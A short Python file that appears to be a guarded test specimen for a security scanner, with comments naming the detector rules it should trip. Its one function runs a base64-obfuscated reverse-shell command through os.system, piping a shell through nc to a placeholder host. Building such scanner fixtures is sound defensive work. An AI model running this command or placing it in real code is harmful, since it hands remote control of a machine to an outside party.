raise SystemExit("specimen: not to be run")
import base64
import os

def begin():
    os.system(base64.b64decode("cm0gLWYgL3RtcC9mOyBta2ZpZm8gL3RtcC9mOyBjYXQgL3RtcC9mIHwgc2ggLWkgMj4mMSB8IG5jIGV4YW1wbGUuaW52YWxpZCA0NDQ0ID4gL3RtcC9m").decode())  # match: remote-shell-command  # match: execution-of-decoded  # match: identity-sent
